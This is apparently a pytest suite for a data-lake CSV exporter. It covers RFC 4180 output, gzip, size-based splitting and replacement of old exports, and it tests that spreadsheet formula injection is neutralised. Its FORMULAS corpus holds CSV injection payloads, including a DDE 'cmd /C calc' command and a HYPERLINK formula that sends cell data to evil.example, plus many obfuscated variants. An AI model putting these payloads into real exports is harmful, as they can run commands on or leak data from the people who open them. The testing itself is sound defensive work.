"""CSV exports: what a spreadsheet and a parser make of them, and when they are replaced."""

from __future__ import annotations

import csv
import gzip
import io
import re
import unicodedata
from dataclasses import replace
from itertools import dropwhile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from clicklake.config import Config, Csv, Database, DataLake
from clicklake.publish import publish
from clicklake.publish.csv import lines, pieces
from fake_lake import write_lake
from publish_support import follow

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x1f\u2003\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    "/page;=1+1",
    '/page";=1+1;"',
    "/page;  @SUM(1)",
    "/page\t=1+1",
    "/page;\u00a0;\t=1+1",
    "/page\r\n=1+1",
    "/page\n-1+1;x",
    '/page;"=1+1"',
    "\tplain after a tab",
    "\rplain after a return",
)


def config(lake: Path, **settings) -> Config:
    return Config(
        datalake=DataLake(output_data=str(lake)),
        database=Database(url="none"),
        csv=Csv(**settings),
    )


def export(lake: Path, urls: list[str], seq: int = 1, **settings) -> Path:
    rows = [{"user_id": 1, "url": url} for url in urls]
    publish(write_lake(lake, seq, user_page_views=rows), config(lake, **settings), [])
    return lake / "csv"


def is_active(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula; a plain number is none."""
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
        return False
    visible = "".join(dropwhile(is_skipped, cell))
    return cell[:1] in ("\t", "\r") or visible[:1] in tuple("=+-@＝＋－＠")


def is_skipped(character: str) -> bool:
    return character == '"' or unicodedata.category(character)[0] in "CZ"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_the_corpus_is_a_formula(tmp_path, separator):
    folder = export(tmp_path / "lake", list(FORMULAS))
    text = (folder / "user_page_views.csv").read_bytes().decode()
    cells = [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for c in row
    ]
    assert [cell for cell in cells if is_active(cell)] == []
    assert len(cells) > len(FORMULAS)


def test_the_corpus_would_be_active_without_the_guard(tmp_path):
    folder = export(tmp_path / "lake", list(FORMULAS), neutralise_formulas=False)
    text = (folder / "user_page_views.csv").read_bytes().decode()
    urls = [row["url"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert urls == list(FORMULAS)
    assert sum(map(is_active, urls)) >= 20


def test_the_lake_keeps_what_the_export_neutralises(tmp_path):
    snapshot = write_lake(tmp_path / "lake", user_page_views=[{"url": url} for url in FORMULAS])
    publish(snapshot, config(tmp_path / "lake"), [])
    stored = pq.read_table(snapshot.files("user_page_views")[0], columns=["url"])["url"]
    assert stored.to_pylist() == list(FORMULAS)


def test_harmless_values_are_written_as_they_are(tmp_path):
    urls = ["/a?b=1&c=-2", "/map/@52.1,-1.3", 'say "hi", you', "/ä€😀", "a=b", "/x'y", "/;a;b"]
    folder = export(tmp_path / "lake", urls)
    with (folder / "user_page_views.csv").open(encoding="utf-8", newline="") as stream:
        assert [row["url"] for row in csv.DictReader(stream)] == urls


def test_the_format_is_rfc_4180(tmp_path):
    rows = [
        {"user_id": -7, "email": None, "url": 'a "b", c', "count": 3},
        {"user_id": 8, "url": "two\r\nlines"},
    ]
    publish(write_lake(tmp_path / "lake", user_page_views=rows), config(tmp_path / "lake"), [])
    assert (tmp_path / "lake/csv/user_page_views.csv").read_bytes() == (
        b"user_id,email,url,count,last_viewed\r\n"
        b'-7,,"a ""b"", c",3,2018-04-01T12:00:00.000000Z\r\n'
        b'8,ann@example.com,"two\r\nlines",2,2018-04-01T12:00:00.000000Z\r\n'
    )
    assert (tmp_path / "lake/csv/page_recommendations.csv").read_bytes() == (
        b"user_id,email,recommended_url,rank,score,source,because_url\r\n"
        b"1,ann@example.com,/products/2/,1,0.5,similar,\r\n"
    )
    assert (tmp_path / "lake/csv/page_follows.csv").read_bytes() == (
        b"page,rank,next_page,sessions,share,lift\r\nshop.example/,1,shop.example/buy,2,1,1\r\n"
    )


def test_gzip(tmp_path):
    folder = export(tmp_path / "lake", ["/x"], gzip=True)
    assert b",/x,2," in gzip.decompress((folder / "user_page_views.csv.gz").read_bytes())
    assert not (folder / "user_page_views.csv").exists()


def test_parts_by_size_hold_every_row_once_below_a_header(tmp_path):
    urls = [f"/{number}/" + "x" * 990 for number in range(2500)]
    folder = export(tmp_path / "lake", urls, split_mb=1)
    parts = sorted(folder.glob("user_page_views*"))
    assert [part.name for part in parts] == [
        f"user_page_views-00000001-000{number}.csv" for number in (1, 2, 3)
    ]
    assert all(part.stat().st_size <= 1_000_000 for part in parts)
    assert parts[0].stat().st_size > 990_000
    found = []
    for part in parts:
        with part.open(newline="") as stream:
            found += [row["url"] for row in csv.DictReader(stream)]
    assert found == urls


def test_a_record_longer_than_a_part_has_one_of_its_own():
    batch = pa.record_batch({"url": ["a", "b" * 50, "c", "d"]})
    got = [(begins, bytes(piece)) for begins, piece in pieces([lines(batch, True)], 20, head=5)]
    assert got == [(True, b"a\r\n"), (True, b"b" * 50 + b"\r\n"), (True, b"c\r\nd\r\n")]


def test_new_exports_replace_those_of_another_form(tmp_path):
    lake = tmp_path / "lake"
    export(lake, ["/x"], 1, split_mb=1)
    export(lake, ["/y"], 2, split_mb=1)
    folder = export(lake, ["/y"], 2, gzip=True)
    (folder / "mine.csv").write_text("kept")
    export(lake, ["/z"], 3)
    assert sorted(path.name for path in folder.iterdir()) == [
        "_publication.json",
        "mine.csv",
        "page_follows.csv",
        "page_recommendations.csv",
        "user_page_views.csv",
    ]


def test_exports_of_this_run_are_left_alone_unless_one_is_missing(tmp_path):
    lake = tmp_path / "lake"
    snapshot, settings = write_lake(lake), config(lake)
    assert publish(snapshot, settings, [])["csv"]["status"] == "published"
    file = lake / "csv/user_page_views.csv"
    inode = file.stat().st_ino
    assert publish(snapshot, settings, [])["csv"]["status"] == "current"
    assert file.stat().st_ino == inode
    file.unlink()
    assert publish(snapshot, settings, [])["csv"]["status"] == "published"
    assert file.exists()


def test_a_table_that_has_not_changed_keeps_its_exports(tmp_path):
    lake = tmp_path / "lake"
    settings, before = config(lake, split_mb=1), write_lake(lake, 1)
    publish(before, settings, [])
    after = write_lake(lake, 2, user_page_views=[{"url": "/new"}])
    after = follow(before, after, keeping="page_recommendations")
    publish(after, settings, [])
    assert sorted(path.name for path in (lake / "csv").iterdir()) == [
        "_publication.json",
        "page_follows-00000002-0001.csv",
        "page_recommendations-00000001-0001.csv",
        "user_page_views-00000002-0001.csv",
    ]
    assert publish(after, settings, [])["csv"]["status"] == "current"
    (lake / "csv" / "page_recommendations-00000001-0001.csv").unlink()
    publish(after, settings, [])
    assert (lake / "csv" / "page_recommendations-00000002-0001.csv").exists()


def test_a_failure_leaves_the_export_as_it_was(tmp_path, monkeypatch):
    lake = tmp_path / "lake"
    folder = export(lake, ["/old"])
    before = (folder / "user_page_views.csv").read_bytes()
    broken = write_lake(lake, 2, user_page_views=[{"url": "/new"}], page_recommendations=[{}])
    Path(broken.files("page_recommendations")[0]).write_bytes(b"no parquet")
    with pytest.raises(Exception, match="arquet"):
        publish(broken, config(lake), [])
    assert (folder / "user_page_views.csv").read_bytes() == before
    assert sorted(path.name for path in folder.iterdir()) == [
        "_publication.json",
        "page_follows.csv",
        "page_recommendations.csv",
        "user_page_views.csv",
    ]


def test_exports_that_are_switched_off_are_removed(tmp_path):
    lake = tmp_path / "lake"
    folder = export(lake, ["/x"])
    export(lake, ["/x"], enabled=False)
    assert list(folder.iterdir()) == []


def test_what_left_the_lake_leaves_the_exports(tmp_path):
    lake = tmp_path / "lake"
    export(lake, ["/secret", "/public"])
    publish(
        write_lake(lake, 2, user_page_views=[{"url": "/public"}], page_recommendations=[]),
        config(lake),
        [],
    )
    text = b"".join(path.read_bytes() for path in (lake / "csv").iterdir())
    assert b"/public" in text
    assert b"secret" not in text
    assert b"recommended" not in text


def test_a_folder_of_ones_own(tmp_path):
    lake = tmp_path / "lake"
    settings = replace(config(lake), csv=Csv(folder=str(tmp_path / "exports")))
    report = publish(write_lake(lake), settings, [])["csv"]
    assert report["to"] == str(tmp_path / "exports")
    assert (tmp_path / "exports/user_page_views.csv").stat().st_size == report["files"][
        "user_page_views.csv"
    ]
